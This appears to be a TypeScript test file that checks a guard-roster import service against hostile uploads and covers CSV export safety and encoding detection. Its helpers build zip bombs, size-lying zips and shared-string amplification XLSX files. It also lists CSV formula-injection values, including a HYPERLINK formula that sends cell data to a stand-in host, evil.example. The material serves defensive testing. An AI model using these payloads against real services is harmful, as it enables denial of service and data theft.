import ExcelJS from 'exceljs';
import * as iconv from 'iconv-lite';
import JSZip from 'jszip';
import { ParsePool, readTable } from '../../src/infra/tabular/tabular';
import type { AppConfig } from '../../src/config/config';
import { createButtons, press, TestButton } from '../support/devices';
import { auth, seedMinimal, startApp, TestApp } from '../support/harness';

const MAX_ROWS = 2000;
const MAX_UNZIPPED = 8 * 1024 * 1024;

/** supertest: collect a binary response body. */
const binary = ((res: NodeJS.ReadableStream, cb: (e: Error | null, b: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => cb(null, Buffer.concat(chunks)));
}) as never;

/** An XLSX of guards with `rows` data rows, its sheet XML optionally rewritten (dimension removed, padding added). */
async function guardsXlsx(rows: number, rewrite?: (sheetXml: string) => string): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('Sheet1');
  ws.addRow(['licenceNo', 'name', 'schoolCode']);
  for (let i = 0; i < rows; i++) ws.addRow([`X-${String(i).padStart(7, '0')}`, '张伟', 'SA']);
  const buf = Buffer.from(await wb.xlsx.writeBuffer());
  if (!rewrite) return buf;
  const zip = await JSZip.loadAsync(buf);
  const path = 'xl/worksheets/sheet1.xml';
  zip.file(path, rewrite(await zip.file(path)!.async('string')));
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 9 } });
}

/** Rewrites the uncompressed size an entry declares (local header and central directory): a zip that lies about its size. */
function lieAboutSize(zip: Buffer, name: string, size: number): Buffer {
  const out = Buffer.from(zip);
  const nameBytes = Buffer.from(name);
  for (let i = 0; i < out.length - 46; i++) {
    const sig = out.readUInt32LE(i);
    if (sig === 0x04034b50 && out.subarray(i + 30, i + 30 + nameBytes.length).equals(nameBytes)) out.writeUInt32LE(size, i + 22);
    if (sig === 0x02014b50 && out.subarray(i + 46, i + 46 + nameBytes.length).equals(nameBytes)) out.writeUInt32LE(size, i + 24);
  }
  return out;
}

const GUARD_HEADERS = ['licenceNo', 'name', 'schoolCode', 'fullTime', 'phone', 'active'];

/**
 * The attack's file (A4): every data cell of `rows` rows × 6 columns points at one shared string of
 * `chars` characters. Small on disk (the sheet is the same short reference over and over), 6 × rows ×
 * chars characters once every cell is read.
 */
async function sharedStringBomb(rows: number, chars: number): Promise<Buffer> {
  const zip = await JSZip.loadAsync(await guardsXlsx(0));
  const ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
  const strings = [...GUARD_HEADERS, '长'.repeat(chars)];
  zip.file(
    'xl/sharedStrings.xml',
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst ${ns} count="${strings.length}" uniqueCount="${strings.length}">${strings.map((x) => `<si><t>${x}</t></si>`).join('')}</sst>`,
  );
  const cells = (r: number, v: (i: number) => number) =>
    GUARD_HEADERS.map((_, i) => `<c r="${String.fromCharCode(65 + i)}${r}" t="s"><v>${v(i)}</v></c>`).join('');
  const body = [`<row r="1">${cells(1, (i) => i)}</row>`];
  for (let r = 2; r <= rows + 1; r++) body.push(`<row r="${r}">${cells(r, () => GUARD_HEADERS.length)}</row>`);
  zip.file(
    'xl/worksheets/sheet1.xml',
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet ${ns}><sheetData>${body.join('')}</sheetData></worksheet>`,
  );
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 9 } });
}

/**
 * Uploads cannot freeze or starve the service (issue 12 §3), CSV exports carry no formulas
 * (§4), and CSV text in a legacy code page is read in its encoding or refused, never stored as
 * mojibake (§13).
 */
describe('hostile and awkward uploads', () => {
  let t: TestApp;
  let admin: string;
  let staff: string;
  let staffId: string;
  let operator: string;
  let button: TestButton;

  beforeAll(async () => {
    t = await startApp({ import: { maxRows: MAX_ROWS, maxUnzippedBytes: MAX_UNZIPPED, maxFileBytes: 8 * 1024 * 1024 } });
    admin = (await t.userToken('admin')).token;
    const seed = await seedMinimal(t, admin);
    ({ token: staff, userId: staffId } = await t.userToken('school_security', seed.schoolA.id));
    operator = (await t.userToken('operator')).token;
    [button] = await createButtons(t, admin, seed.schoolB.id, 1, 'IMP');
  });
  afterAll(() => t.close());

  const upload = (kind: string, body: Buffer | string, query = '?dryRun=true', token = staff) =>
    t
      .http()
      .post(`/api/v1/import/${kind}${query}`)
      .set(auth(token))
      .attach('file', Buffer.isBuffer(body) ? body : Buffer.from(body, 'utf8'), 'file');

  describe('limits are enforced while reading, not after', () => {
    it('refuses an XLSX whose declared dimension is past the row limit before reading its rows', async () => {
      const res = await upload('guards', await guardsXlsx(MAX_ROWS + 5));
      expect([res.status, res.body.error.code, res.body.error.details]).toEqual([400, 'IMPORT.TOO_MANY_ROWS', { maxRows: MAX_ROWS, rows: `>${MAX_ROWS}` }]);
    });

    it('stops at the row limit of an XLSX that does not declare its dimension', async () => {
      const file = await guardsXlsx(MAX_ROWS + 5, (xml) => xml.replace(/<dimension [^>]*\/>/, ''));
      const res = await upload('guards', file);
      expect([res.status, res.body.error.code]).toEqual([400, 'IMPORT.TOO_MANY_ROWS']);
      // One row fewer is fine.
      expect((await upload('guards', await guardsXlsx(MAX_ROWS, (xml) => xml.replace(/<dimension [^>]*\/>/, '')))).body).toMatchObject({ rows: MAX_ROWS });
    });

    it('refuses a zip bomb by its declared size, and one that lies about it by what it inflates to', async () => {
      const padding = ' '.repeat(4 * MAX_UNZIPPED);
      const bomb = await guardsXlsx(3, (xml) => xml.replace('<sheetData>', `<sheetData>${padding}`));
      expect(bomb.length).toBeLessThan(200 * 1024); // a small upload…
      const res = await upload('guards', bomb);
      expect([res.status, res.body.error.code]).toEqual([400, 'IMPORT.TOO_LARGE_CONTENT']);
      const liar = lieAboutSize(bomb, 'xl/worksheets/sheet1.xml', 4096);
      const lied = await upload('guards', liar);
      expect([lied.status, lied.body.error.code]).toEqual([400, 'IMPORT.TOO_LARGE_CONTENT']);
    });

    it('refuses a row wider than import.maxColumns', async () => {
      const res = await upload('guards', `licenceNo,name,schoolCode\nW-0001,张伟,SA${',x'.repeat(100)}\n`);
      expect([res.status, res.body.error.code, res.body.error.details.row]).toEqual([400, 'IMPORT.TOO_LARGE_CONTENT', 2]);
    });

    it('keeps answering other requests while a large file is imported', async () => {
      const lines = ['licenceNo,name,schoolCode', ...Array.from({ length: MAX_ROWS }, (_, i) => `L-${String(i).padStart(7, '0')},张伟${i},SA`)];
      const big = lines.join('\n').repeat(1); // MAX_ROWS rows: at the limit, accepted
      let done = false;
      const importing = upload('guards', big).then((r) => {
        done = true;
        return r;
      });
      let answered = 0;
      while (!done) {
        const res = await t.http().get('/health/live');
        if (res.status === 200 && !done) answered++;
      }
      expect((await importing).body).toMatchObject({ rows: MAX_ROWS, created: MAX_ROWS, dryRun: true });
      expect(answered).toBeGreaterThan(0);
    });

    it('refuses a file with 503 and Retry-After when every parser is busy and the queue is full', async () => {
      const pool = new ParsePool({ import: { ...t.config.import, parseWorkers: 1, parseQueue: 0 } } as AppConfig);
      try {
        const file = Buffer.from('licenceNo,name,schoolCode\nB-0001,张伟,SA\n');
        const first = pool.read(file);
        await expect(pool.read(file)).rejects.toMatchObject({ status: 503, code: 'IMPORT.BUSY', details: { retryAfterSeconds: expect.any(Number) } });
        await expect(first).resolves.toMatchObject({ rows: [{ line: 2, cells: ['B-0001', '张伟', 'SA'] }] });
        await expect(pool.read(file)).resolves.toMatchObject({ encoding: 'UTF-8' }); // free again
      } finally {
        await pool.onModuleDestroy();
      }
    });

    it('hands a table back in parts, one per event-loop turn, whole and in order (a 50,000-row table in one message held the loop ~70 ms)', async () => {
      const pool = new ParsePool({ import: { ...t.config.import, maxRows: 10_000 } } as AppConfig);
      try {
        const n = 5_001; // three parts of TABLE_CHUNK_ROWS (2,000), the last short
        const file = Buffer.from('licenceNo,name,schoolCode\n' + Array.from({ length: n }, (_, i) => `P-${i},张伟${i},SA`).join('\n') + '\n');
        let turns = 0;
        let counting = true;
        const tick = () => {
          turns++;
          if (counting) setImmediate(tick);
        };
        setImmediate(tick);
        const table = await pool.read(file);
        counting = false;
        expect(table.rows).toHaveLength(n);
        expect(table.rows.map((r) => r.line)).toEqual(Array.from({ length: n }, (_, i) => i + 2));
        expect(table.rows[n - 1].cells).toEqual([`P-${n - 1}`, `张伟${n - 1}`, 'SA']);
        expect(turns).toBeGreaterThanOrEqual(3); // the loop turned between the parts
      } finally {
        await pool.onModuleDestroy();
      }
    });
  });

  describe('a cell cannot grow past import.maxCellChars, and errors never echo it (attack F13)', () => {
    /** The attack's file: a valid XLSX whose header cell A1 is an inline string of `chars` characters, zipped small. */
    async function oneHugeCell(chars: number): Promise<Buffer> {
      const zip = await JSZip.loadAsync(await guardsXlsx(0));
      zip.file(
        'xl/worksheets/sheet1.xml',
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' +
          `<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>${'A'.repeat(chars)}</t></is></c></row></sheetData></worksheet>`,
      );
      return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 9 } });
    }

    it('refuses a small XLSX holding one 5-million-character header cell (under the unzipped limit) while inflating it, with a short answer', async () => {
      const bomb = await oneHugeCell(5_000_000);
      expect(bomb.length).toBeLessThan(100 * 1024);
      const res = await upload('guards', bomb);
      expect([res.status, res.body.error.code, res.body.error.details]).toEqual([400, 'IMPORT.CELL_TOO_LONG', { maxCellChars: t.config.import.maxCellChars }]);
      expect(JSON.stringify(res.body).length).toBeLessThan(1000);
    });

    it('refuses a CSV cell past the limit naming its row and column, and one just within it reads', async () => {
      const max = t.config.import.maxCellChars;
      const res = await upload('guards', `licenceNo,name,schoolCode\nC-0001,${'张'.repeat(max + 1)},SA\n`);
      expect([res.status, res.body.error.code, res.body.error.details]).toEqual([400, 'IMPORT.CELL_TOO_LONG', { maxCellChars: max, row: 2, column: 2 }]);
      const inRange = await readTable(Buffer.from(`licenceNo,name\nC-0001,${'张'.repeat(max)}\n`), { ...t.config.import });
      expect(inRange.rows[0]!.cells[1]).toHaveLength(max);
    });

    it('quotes a long unknown column back only as a short excerpt', async () => {
      const long = 'Q'.repeat(t.config.import.maxCellChars - 10);
      const res = await upload('guards', `licenceNo,name,schoolCode,${long}\nC-0002,张伟,SA,x\n`);
      expect([res.status, res.body.error.code]).toEqual([400, 'IMPORT.INVALID_HEADER']);
      expect(JSON.stringify(res.body)).toContain('Q'.repeat(50));
      expect(JSON.stringify(res.body).length).toBeLessThan(1000);
    });

    /** Holds `n` slots of a lane for the given user ids until the returned release is called (a long import or export of theirs). */
    const hold = (lane: 'import' | 'export', users: string[]) => {
      const pool = t.app.get(ParsePool);
      const releases: (() => void)[] = [];
      const held = users.map((u) => pool.exclusive(u, lane, () => new Promise<void>((r) => releases.push(r))));
      return async () => {
        releases.forEach((r) => r());
        await Promise.all(held);
      };
    };
    const others = (n: number, tag: string) => Array.from({ length: n }, (_, i) => `${tag}-holder-${i}`);
    const csvFile = 'licenceNo,name,schoolCode\nC-0003,张伟,SA\n';

    it('answers 503 with Retry-After when import.maxConcurrent imports are running, and runs again once one ends; exports do not wait behind them', async () => {
      const release = hold('import', others(t.config.import.maxConcurrent, 'imp'));
      const busy = await upload('guards', csvFile);
      expect([busy.status, busy.body.error.code, busy.headers['retry-after']]).toEqual([503, 'IMPORT.BUSY', expect.stringMatching(/^\d+$/)]);
      // Exports are a lane of their own (attack pass 8 F2: an operator's export was refused while imports held the slots).
      expect((await t.http().get('/api/v1/export/guards').set(auth(admin))).status).toBe(200);
      await release();
      expect((await upload('guards', csvFile)).status).toBe(200);
    });

    it('answers 503 with Retry-After when import.maxConcurrent exports are running, and runs again once one ends; imports do not wait behind them', async () => {
      const release = hold('export', others(t.config.import.maxConcurrent, 'exp'));
      const busy = await t.http().get('/api/v1/export/guards?format=xlsx').set(auth(staff));
      expect([busy.status, busy.body.error.code, busy.headers['retry-after']]).toEqual([503, 'IMPORT.BUSY', expect.stringMatching(/^\d+$/)]);
      expect((await upload('guards', csvFile)).status).toBe(200);
      await release();
      // Free again; the XLSX is built in a worker thread and reads back.
      const file = await t.http().get('/api/v1/export/guards?format=xlsx').set(auth(staff)).buffer(true).parse(binary);
      expect(file.status).toBe(200);
      expect((await readTable(file.body as Buffer)).header).toContain('licenceNo');
    });

    it('lets one user run import.maxConcurrentPerUser imports/exports at once: their next is 429 IMPORT.BUSY_FOR_USER, and everyone else carries on (attack pass 8 F2)', async () => {
      expect(t.config.import.maxConcurrentPerUser).toBe(1);
      // The school account's long dry run holds one slot; the attack looped two to hold both.
      const release = hold('import', [staffId]);
      const second = await upload('guards', csvFile);
      expect([second.status, second.body.error.code, second.headers['retry-after']]).toEqual([429, 'IMPORT.BUSY_FOR_USER', expect.stringMatching(/^\d+$/)]);
      expect(second.body.error.details.retryAfterSeconds).toBeGreaterThan(0);
      // Its exports count with its imports…
      const export_ = await t.http().get('/api/v1/export/guards').set(auth(staff));
      expect([export_.status, export_.body.error?.code]).toEqual([429, 'IMPORT.BUSY_FOR_USER']);
      // …while an admin's import and an operator's export go through (they got 503 IMPORT.BUSY 10/10 in the attack).
      expect((await upload('guards', csvFile, '?dryRun=true', admin)).status).toBe(200);
      expect((await t.http().get('/api/v1/export/guards').set(auth(operator))).status).toBe(200);
      await release();
      expect((await upload('guards', csvFile)).status).toBe(200);
    });
  });

  describe('a file cannot expand past import.maxTotalChars (attack A4: shared-string amplification)', () => {
    it('refuses a small XLSX whose cells all reference one long shared string while reading it, and a press meanwhile is answered', async () => {
      const { maxTotalChars, maxCellChars } = t.config.import;
      const chars = maxCellChars - 1;
      const bomb = await sharedStringBomb(MAX_ROWS - 1, chars); // within the row, column, cell and unzipped limits
      expect(bomb.length).toBeLessThan(200 * 1024);
      expect(6 * (MAX_ROWS - 1) * chars).toBeGreaterThan(2 * maxTotalChars); // what it would expand to
      const importing = upload('guards', bomb);
      // A press of another school's button, sent while the file is being read: answered, within a bound
      // (press aborts after it) far below the 8-13 s the attack saw.
      const pressed = await press(t.baseUrl, button, 'a4-during-import', 5000);
      expect(pressed.status).toBe(201);
      const res = await importing;
      expect([res.status, res.body.error.code, res.body.error.details.maxTotalChars]).toEqual([400, 'IMPORT.TOO_MUCH_TEXT', maxTotalChars]);
      // Refused at the row where the running total passed the limit (per reference, header included), not after the whole sheet.
      const headerChars = GUARD_HEADERS.join('').length;
      expect(res.body.error.details.row).toBe(1 + Math.ceil((maxTotalChars - headerChars + 1) / (6 * chars)));
      expect(JSON.stringify(res.body).length).toBeLessThan(1000);
      // The service is still fine afterwards (a new event of the same button joins its open incident: 200).
      expect((await press(t.baseUrl, button, 'a4-after-import', 5000)).status).toBe(200);
    });

    it('counts per reference in the reader too, and the biggest legitimate guard roster fits the default', async () => {
      const bomb = await sharedStringBomb(10, 100);
      const limits = { ...t.config.import, maxTotalChars: 6 * 100 * 4 + 100 }; // header + 4 rows fit, the 5th does not
      await expect(readTable(bomb, limits)).rejects.toMatchObject({ code: 'IMPORT.TOO_MUCH_TEXT', details: { row: 6 } });
      // The biggest legitimate sheet fits the default: 50,000 guards (the default import.maxRows), every
      // column at its longest valid value (the longest row, counted as the reader counts it, times the rows).
      const header = 'licenceNo,name,schoolCode,fullTime,phone,active';
      const longest = `${'L'.repeat(24)}-0000001,${'张'.repeat(50)},${'S'.repeat(32)},false,+${'1'.repeat(20)},false`;
      const read = await readTable(Buffer.from(`${header}\n${longest}\n`, 'utf8'), t.config.import);
      const count = (cells: string[]) => cells.reduce((n, c) => n + c.length, 0);
      expect(count(read.header) + 50_000 * count(read.rows[0]!.cells)).toBeLessThanOrEqual(t.config.import.maxTotalChars);
    });
  });

  describe('CSV exports carry no formulas', () => {
    const NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '+1+1', '-2+3', '@SUM(1)', '=1+2'];

    it('neutralises every cell a spreadsheet would run, and re-import strips the guard', async () => {
      const csv = ['licenceNo,name,schoolCode,phone', ...NAMES.map((n, i) => `F-000${i},"${n.replace(/"/g, '""')}",SA,+86-23-1234`)].join('\n');
      expect((await upload('guards', csv, '', admin)).body).toMatchObject({ created: NAMES.length });
      const exported = await t.http().get('/api/v1/export/guards').set(auth(admin)).buffer(true).parse(binary).expect(200);
      const table = await readTable(exported.body as Buffer, {
        maxRows: 100,
        maxColumns: 20,
        maxUnzippedBytes: 1e6,
        maxCellChars: 1000,
        maxTotalChars: 1e6,
        charsetMinScore: 0.8,
      });
      const raw = (exported.body as Buffer).toString('utf8');
      for (const n of NAMES) expect(raw).not.toMatch(new RegExp(`(^|,)"?${n.slice(0, 3).replace(/[+()=@-]/g, '\\$&')}`, 'm'));
      expect(raw).toContain(`'=HYPERLINK`);
      expect(raw).toContain(`'+86-23-1234`);
      // Re-import: the guard is stripped, nothing changes.
      expect((await upload('guards', exported.body as Buffer, '', admin)).body).toMatchObject({ created: 0, updated: 0 });
      const { rows } = await t.db.query(`SELECT name, phone FROM guards WHERE licence_no LIKE 'F-%' ORDER BY licence_no`);
      expect(rows.map((r) => r.name)).toEqual(NAMES);
      expect(rows[0].phone).toBe('+86-23-1234');
      expect(table.rows.length).toBeGreaterThanOrEqual(NAMES.length);
    });
  });

  describe('CSV text encodings', () => {
    const csv = 'licenceNo,name,schoolCode\nE-0001,围墙,SA\nE-0002,校园,SA\nE-0003,小学楼,SA\n';

    it("reads the issue's GBK file without BOM (bytes that are also valid UTF-8) as GBK, and shows it in the dry run", async () => {
      const gbk = iconv.encode(csv, 'gbk');
      expect(() => new TextDecoder('utf-8', { fatal: true }).decode(gbk)).not.toThrow(); // the trap: valid UTF-8
      const res = await upload('guards', gbk).expect(200);
      expect(res.body).toMatchObject({ dryRun: true, rows: 3, encoding: 'GB18030' });
      expect(res.body.preview).toEqual({
        header: ['licenceNo', 'name', 'schoolCode'],
        rows: [
          { line: 2, cells: ['E-0001', '围墙', 'SA'] },
          { line: 3, cells: ['E-0002', '校园', 'SA'] },
          { line: 4, cells: ['E-0003', '小学楼', 'SA'] },
        ],
      });
      await upload('guards', gbk, '').expect(200);
      const { rows } = await t.db.query(`SELECT name FROM guards WHERE licence_no LIKE 'E-%' ORDER BY licence_no`);
      expect(rows.map((r) => r.name)).toEqual(['围墙', '校园', '小学楼']);
    });

    it('reads UTF-8 with and without a BOM', async () => {
      const plain = (await upload('guards', Buffer.from(csv, 'utf8')).expect(200)).body;
      expect([plain.encoding, plain.preview.rows[0].cells]).toEqual(['UTF-8', ['E-0001', '围墙', 'SA']]);
      expect((await upload('guards', '\uFEFF' + csv).expect(200)).body.encoding).toBe('UTF-8 (BOM)');
    });

    it('refuses, asking for UTF-8, when the encoding cannot be told or is not one we read', async () => {
      const cases = {
        big5: iconv.encode(csv.replace('围墙', '圍牆'), 'big5'),
        shiftJis: iconv.encode(csv.replace('围墙', '東京の学校'), 'shift_jis'),
        ambiguous: Buffer.from('licenceNo,name,schoolCode\nE-0009,Café Système,SA\n', 'utf8'),
      };
      for (const [what, bytes] of Object.entries(cases)) {
        const res = await upload('guards', bytes);
        expect([what, res.status, res.body.error?.code]).toEqual([what, 400, 'IMPORT.UNSURE_ENCODING']);
        expect(res.body.error.message).toContain('UTF-8');
      }
      const { rows } = await t.db.query(`SELECT count(*)::int AS n FROM guards WHERE licence_no = 'E-0009'`);
      expect(rows[0].n).toBe(0);
    });
  });
});
